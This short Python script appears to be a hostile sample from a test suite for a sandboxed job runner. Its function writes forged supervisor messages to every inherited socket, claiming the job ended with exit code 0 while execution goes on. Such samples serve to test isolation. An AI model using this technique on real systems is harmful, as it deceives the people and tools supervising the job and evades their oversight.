"""Says on every socket that it inherited that the job has ended, and goes on."""

import os
import time

from attack import attack, sockets


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    said = []
    for number in sockets():
        try:
            os.write(number, b'{"supervisor": 1}\n{"ended": {"exit_code": 0}}\n')
        except OSError:
            continue
        said.append(number)
    time.sleep(0.2)
    return f"spoke on the inherited sockets {said}" if said else ""
